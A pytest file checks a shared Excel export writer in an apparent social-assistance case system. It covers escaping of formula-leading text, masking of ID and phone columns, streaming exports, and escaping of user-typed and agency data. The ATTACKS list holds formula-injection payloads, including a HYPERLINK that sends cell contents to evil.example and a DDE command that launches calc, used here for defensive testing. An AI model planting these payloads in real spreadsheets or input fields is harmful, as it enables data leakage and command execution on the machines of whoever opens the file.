"""The shared Excel writer: formula-leading text is escaped in every export, sensitive columns are masked,
and large exports stream; every export in the code base goes through it."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from doudi.core.excel import Col, Sheet, safe_text, to_bytes, write
from tests.factories import PASSWORD, VILLAGE_A1, make_areas, make_household, make_user

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _no_formula(data: bytes) -> None:
    formulas = [c.value for c in _cells(data) if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_leading_text_becomes_inert_text(text: str) -> None:
    data = to_bytes(Sheet("表", ["姓名"], [[text]]))
    _no_formula(data)
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    # A carriage return is kept by openpyxl's lxml writer (as _x000D_); without lxml, XML reads it back as a line feed.
    assert cell.data_type == "s" and cell.value in ("'" + text, "'" + text.replace("\r", "\n"))


def test_plain_values_are_written_as_they_are() -> None:
    data = to_bytes(Sheet("表", ["文本", "整数", "金额", "日期", "负数", "布尔"],
                          [["张三 =1", 7, Decimal("437.50"), date(2026, 12, 4), -50, True]]))
    ws = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[2]][:5] == ["张三 =1", 7, 437.5, ws["D2"].value, -50]
    assert ws["D2"].value.date() == date(2026, 12, 4) and ws["F2"].value == "是"
    assert safe_text("张三") == "张三" and safe_text("-") == "'-"


def test_headers_widths_caption_masks_and_formats() -> None:
    cols = [Col("身份证号", 22, mask="id_number"), Col("电话", mask="phone"), Col("金额(元)", 12, number_format="0.00")]
    data = to_bytes(Sheet("名单", cols, [["370784197005010011", "13812345678", Decimal("12.5")]], caption="=标题"))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "名单" and ws["A1"].value == "'=标题" and ws["A1"].font.bold
    assert [c.value for c in ws[2]] == ["身份证号", "电话", "金额(元)"] and ws["A2"].font.bold
    assert ws["A3"].value == "370784********0011" and ws["B3"].value == "138****5678"
    assert ws["C3"].number_format == "0.00" and ws.column_dimensions["A"].width == 22
    assert ws.freeze_panes == "A3"


def test_large_exports_stream_from_a_generator(tmp_path: Path) -> None:
    def rows() -> Iterator[list[Any]]:
        for i in range(30_000):
            yield [i, f"=行{i}"]

    assert write(tmp_path / "big.xlsx", Sheet("大表", ["序号", "内容"], rows())) == 30_000
    ws = load_workbook(tmp_path / "big.xlsx", read_only=True).active
    last = list(ws.iter_rows(min_row=30_001, values_only=True))
    assert last == [(29_999, "'=行29999")]


def test_every_export_uses_the_shared_writer() -> None:
    """No module writes a workbook itself: openpyxl's Workbook is used by core/excel.py alone."""
    root = Path(__file__).resolve().parents[2] / "src" / "doudi"
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if re.search(r"\bWorkbook\s*\(", p.read_text(encoding="utf-8")))
    assert writers == ["core/excel.py"]


def _login(client, username: str) -> None:  # type: ignore[no-untyped-def]
    page = client.get("/login")
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found is not None
    token = found.group(1)
    client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": token})


def test_console_exports_escape_what_applicants_and_strangers_typed(client, db: Session) -> None:  # type: ignore[no-untyped-def]
    """Issue 14 item 4: a portal applicant's name, a failed login's user name, an imported name and address."""
    from doudi.cases import applications
    from doudi.cases.schemas import ApplicationCreate

    make_areas(db)
    worker = make_user(db, "worker1", ["township_caseworker"], "370784001")
    make_user(db, "auditor1", ["auditor"], "370784")
    hh = make_household(db, VILLAGE_A1, head_name="@SUM(1+1)")
    hh.address = "+1+1 村口"
    from doudi.auth.service import actor_for

    applications.submit(db, actor=actor_for(worker), data=ApplicationCreate(
        household_id=hh.id, applicant_name=ATTACKS[0], applicant_id_number=hh.members[0].person.id_number,
        authorised_all=True))
    db.commit()
    page = client.get("/login")
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found is not None
    token = found.group(1)
    client.post("/login", data={"username": ATTACKS[1], "password": "wrong", "csrf_token": token})

    _login(client, "worker1")
    cases = client.get("/cases/export.xlsx")
    households = client.get("/households/export.xlsx")
    assert cases.status_code == households.status_code == 200
    client.cookies.clear()
    _login(client, "auditor1")
    audit = client.get("/audit/export.xlsx")
    assert audit.status_code == 200
    for data, needle in ((cases.content, ATTACKS[0]), (households.content, "@SUM(1+1)"),
                         (households.content, "+1+1 村口"), (audit.content, ATTACKS[1])):
        _no_formula(data)
        assert "'" + needle in [c.value for c in _cells(data)]


def test_verification_report_escapes_agency_text(db: Session, tmp_path: Path) -> None:
    import polars as pl

    from doudi.auth.permissions import system_actor
    from doudi.core import storage
    from doudi.verification import reporting, service
    from doudi.verification.ingest import ingest_file

    storage.configure(tmp_path / "data")
    actor = system_actor("370784", name="test")
    make_areas(db)
    hh = make_household(db, VILLAGE_A1, head_name="=1+2")
    head = hh.members[0].person
    bank = [{"record_id": "k1", "id_number": head.id_number, "name": head.name, "birth_date": "", "sex": "",
             "address": "", "institution": "=HYPERLINK(\"x\")", "product": "deposit", "balance": "300",
             "as_of": "2025-12-31"}]
    pl.DataFrame(bank).write_csv(tmp_path / "bank.csv")
    tax = [{"record_id": "t1", "id_number": head.id_number, "name": head.name, "birth_date": "", "sex": "",
            "address": "", "month": "2025-12", "income_kind": "wage", "amount": "900", "payer": "-某厂"}]
    pl.DataFrame(tax).write_csv(tmp_path / "tax.csv")
    ingest_file(db, actor=actor, source_key="bank", path=tmp_path / "bank.csv")
    ingest_file(db, actor=actor, source_key="tax", path=tmp_path / "tax.csv")
    service.record_authorisation(db, actor=actor, household_id=hh.id, person_id=head.id, signed_by_name="本人",
                                 signed_on=date(2026, 1, 5), document_ref="SQ-1")
    req = service.create_request(db, actor=actor, household_id=hh.id, requested_on=date(2026, 1, 9))
    data = reporting.report_xlsx(db, actor=actor, request_id=req.id)
    _no_formula(data)
    assert "'=1+2" in [c.value for c in _cells(data)]
